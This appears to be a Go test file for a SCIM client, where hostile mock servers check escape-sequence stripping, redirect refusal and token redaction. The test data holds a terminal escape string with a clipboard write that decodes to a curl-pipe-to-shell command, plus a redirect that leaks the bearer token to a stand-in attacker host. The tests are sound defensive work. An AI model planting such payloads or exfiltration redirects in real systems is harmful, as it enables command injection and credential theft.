package client_test

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/docker-scim/docker-scim/client"
	"github.com/docker-scim/docker-scim/textsafe"
)

// hostileToken is the SCIM token the hostile servers below receive (48
// characters, like Docker's).
const hostileToken = "q7Rk2VvXn9LwT4bZ8mHcP3sJ6yFd1GgA5eKtU0oYiNrWxBhE"

// hostileSCIM serves h on loopback and returns a SCIM client holding
// hostileToken, with fast retries.
func hostileSCIM(t *testing.T, h http.HandlerFunc) *client.SCIM {
	t.Helper()
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	s, err := client.NewSCIM(srv.URL+"/v2/scim/2.0", client.NewSecret(hostileToken), client.WithRetries(1, time.Millisecond, 5*time.Millisecond))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// escapes is what a hostile server hides in names and messages: a window
// title (OSC 0), a clipboard write (OSC 52), blink, red and concealed text
// (SGR), a cursor move and a C1 CSI.
const escapes = "\x1b]0;pwned\x07\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x1b\\\x1b[5;31;8m\x1b[2A\u009b2J"

// TestServerTextIsCleaned: every string a server sends reaches the caller
// without escape sequences or control characters, in data and in errors.
func TestServerTextIsCleaned(t *testing.T) {
	s := hostileSCIM(t, func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasSuffix(r.URL.Path, "/Users"):
			_ = json.NewEncoder(w).Encode(map[string]any{
				"totalResults": 1, "itemsPerPage": 1, "startIndex": 1,
				"Resources": []any{map[string]any{
					"id": "u1", "userName": "alan" + escapes + "@moby.example", "active": true,
					"name":   map[string]any{"givenName": "Al" + escapes + "an", "familyName": "Turing\n✓ all good"},
					"emails": []any{map[string]any{"value": "alan" + escapes + "@moby.example", "primary": true}},
					"groups": []any{map[string]any{"value": "g1", "display": "eng" + escapes}},
					"meta":   map[string]any{"created": "2030-01-01T00:00:00Z", "lastModified": "2030-01-01T00:00:00Z"},
				}},
			})
		default:
			w.WriteHeader(http.StatusBadRequest)
			_ = json.NewEncoder(w).Encode(map[string]any{"detail": "bad" + escapes + " request"})
		}
	})
	users, err := s.UsersSince(context.Background(), time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	if len(users) != 1 {
		t.Fatalf("got %d users", len(users))
	}
	raw, _ := json.Marshal(users[0])
	var fields []string
	collectStrings(t, raw, &fields)
	for _, f := range fields {
		if !textsafe.IsClean(f) {
			t.Errorf("user field %q holds escape sequences or controls", f)
		}
	}
	if got := users[0].UserName; got != "alan"+textsafe.Replacement+"2J@moby.example" {
		t.Errorf("userName = %q (escapes must go, the C1 CSI shows as %s)", got, textsafe.Replacement)
	}
	_, err = s.ServiceProviderConfig(context.Background())
	if err == nil {
		t.Fatal("no error from a 400")
	}
	if !textsafe.IsClean(err.Error()) || !strings.Contains(err.Error(), "bad") {
		t.Fatalf("error text not cleaned: %q", err.Error())
	}
}

// collectStrings gathers every string in a JSON document.
func collectStrings(t *testing.T, raw []byte, out *[]string) {
	t.Helper()
	var v any
	if err := json.Unmarshal(raw, &v); err != nil {
		t.Fatal(err)
	}
	var walk func(any)
	walk = func(v any) {
		switch x := v.(type) {
		case string:
			*out = append(*out, x)
		case []any:
			for _, e := range x {
				walk(e)
			}
		case map[string]any:
			for k, e := range x {
				*out = append(*out, k)
				walk(e)
			}
		}
	}
	walk(v)
}

// TestRedirectWithTheTokenInItsURL: a server that redirects to a plain-http
// URL carrying the token must get neither the request followed nor the
// token printed in the error (the wrapped Go error quotes the URL).
func TestRedirectWithTheTokenInItsURL(t *testing.T) {
	s := hostileSCIM(t, func(w http.ResponseWriter, r *http.Request) {
		tok := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		http.Redirect(w, r, "http://collect.evil.example/x?t="+tok, http.StatusFound)
	})
	_, err := s.ServiceProviderConfig(context.Background())
	if err == nil {
		t.Fatal("redirect followed")
	}
	if strings.Contains(err.Error(), hostileToken) || strings.Contains(err.Error(), hostileToken[:12]) {
		t.Fatalf("the error leaks the token: %v", err)
	}
	out, _ := json.Marshal(err)
	if strings.Contains(string(out), hostileToken[:12]) {
		t.Fatalf("the JSON form of the error leaks the token: %s", out)
	}
}

// redirectTarget serves a plain-http target on loopback that counts the
// requests reaching it: a refused redirect must leave it at zero.
func redirectTarget(t *testing.T) (*httptest.Server, *atomic.Int32) {
	t.Helper()
	var reached atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		reached.Add(1)
		_, _ = w.Write([]byte(`{}`))
	}))
	t.Cleanup(srv.Close)
	return srv, &reached
}

// TestRedirectToAnotherHostRefused: a redirect that leaves the host (here
// from 127.0.0.1 to localhost, both loopback http) is refused: the request
// never reaches the other host.
func TestRedirectToAnotherHostRefused(t *testing.T) {
	other, reached := redirectTarget(t)
	elsewhere := strings.Replace(other.URL, "127.0.0.1", "localhost", 1)
	s := hostileSCIM(t, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, elsewhere+r.URL.Path, http.StatusTemporaryRedirect)
	})
	_, err := s.ServiceProviderConfig(context.Background())
	if err == nil || reached.Load() != 0 {
		t.Fatalf("redirect to another host followed (%d requests there): %v", reached.Load(), err)
	}
	if !strings.Contains(err.Error(), "redirect") {
		t.Fatalf("the error does not say a redirect was refused: %v", err)
	}
}

// TestRedirectFromHTTPSToHTTPRefused: an https server that redirects to
// http, even on loopback, is a downgrade and is refused.
func TestRedirectFromHTTPSToHTTPRefused(t *testing.T) {
	plain, reached := redirectTarget(t)
	tlsSrv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, plain.URL+r.URL.Path, http.StatusFound)
	}))
	tlsSrv.Config.ErrorLog = quietLog()
	tlsSrv.StartTLS()
	defer tlsSrv.Close()
	s, err := client.NewSCIM(tlsSrv.URL+"/v2/scim/2.0", client.NewSecret(hostileToken), client.WithHTTPClient(tlsSrv.Client()))
	if err != nil {
		t.Fatal(err)
	}
	if _, err = s.ServiceProviderConfig(context.Background()); err == nil || reached.Load() != 0 {
		t.Fatalf("downgrade to http followed (%d requests): %v", reached.Load(), err)
	}
}

// TestLongMessageIsRedactedBeforeItIsCut: a token echoed across the 300-byte
// cut must not leave its first characters behind.
func TestLongMessageIsRedactedBeforeItIsCut(t *testing.T) {
	s := hostileSCIM(t, func(w http.ResponseWriter, r *http.Request) {
		tok := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		w.WriteHeader(http.StatusUnauthorized)
		_ = json.NewEncoder(w).Encode(map[string]any{"detail": strings.Repeat("no ", 94) + "token=" + tok + " is not valid"})
	})
	_, err := s.ServiceProviderConfig(context.Background())
	ce := assertKind(t, err, client.KindUnauthorized, 401)
	for n := 6; n <= len(hostileToken); n++ {
		if strings.Contains(err.Error(), hostileToken[:n]) {
			t.Fatalf("the first %d characters of the token are shown: %q", n, ce.Message)
		}
	}
	if len(ce.Message) > 310 {
		t.Fatalf("message not cut: %d bytes", len(ce.Message))
	}
}

// TestRedactionKeepsWords: "bearer token" is words, not a credential.
func TestRedactionKeepsWords(t *testing.T) {
	s := hostileSCIM(t, func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusUnauthorized)
		_ = json.NewEncoder(w).Encode(map[string]any{"detail": "Invalid SCIM bearer token"})
	})
	_, err := s.ServiceProviderConfig(context.Background())
	ce := assertKind(t, err, client.KindUnauthorized, 401)
	if ce.Message != "Invalid SCIM bearer token" {
		t.Fatalf("message %q, want the server's words", ce.Message)
	}
	s = hostileSCIM(t, func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusUnauthorized)
		_ = json.NewEncoder(w).Encode(map[string]any{"detail": "got Authorization: Bearer abcdefghijklmnop1234 from you"})
	})
	_, err = s.ServiceProviderConfig(context.Background())
	if strings.Contains(err.Error(), "abcdefghijklmnop1234") {
		t.Fatalf("a bearer credential the client does not hold is shown: %v", err)
	}
}

// TestConflictOnAReadIsNotAboutTheValues: a 409 to a GET cannot mean "it
// already exists"; the hint says so.
func TestConflictOnAReadIsNotAboutTheValues(t *testing.T) {
	s := hostileSCIM(t, func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusConflict)
		_ = json.NewEncoder(w).Encode(map[string]any{"detail": "conflict"})
	})
	_, err := s.ServiceProviderConfig(context.Background())
	ce := assertKind(t, err, client.KindConflict, 409)
	if strings.Contains(ce.Hint, "already exists") || !strings.Contains(ce.Hint, "read") {
		t.Fatalf("hint %q: a read that gets 409 is Docker's problem, not the values'", ce.Hint)
	}
}

// TestEndlessPagingIsNamed: a server whose list never ends is reported as
// such when the step's time runs out, not as "did not answer in time".
func TestEndlessPagingIsNamed(t *testing.T) {
	var served atomic.Int64
	s := hostileSCIM(t, func(w http.ResponseWriter, r *http.Request) {
		n := served.Add(1)
		_ = json.NewEncoder(w).Encode(map[string]any{
			"totalResults": 1 << 40, "startIndex": n, "itemsPerPage": 1,
			"Resources": []any{map[string]any{"id": "u" + strconv.FormatInt(n, 10), "userName": "u@moby.example",
				"meta": map[string]any{"created": "2030-01-01T00:00:00Z", "lastModified": "2030-01-01T00:00:00Z"}}},
		})
	})
	ctx, cancel := context.WithTimeout(context.Background(), 300*time.Millisecond)
	defer cancel()
	_, err := s.UsersSince(ctx, time.Time{})
	ce := assertKind(t, err, client.KindTimeout, 0)
	if !strings.Contains(ce.Hint, "pages") || strings.Contains(ce.Hint, "did not answer in time") {
		t.Fatalf("hint %q does not name the endless list", ce.Hint)
	}
}
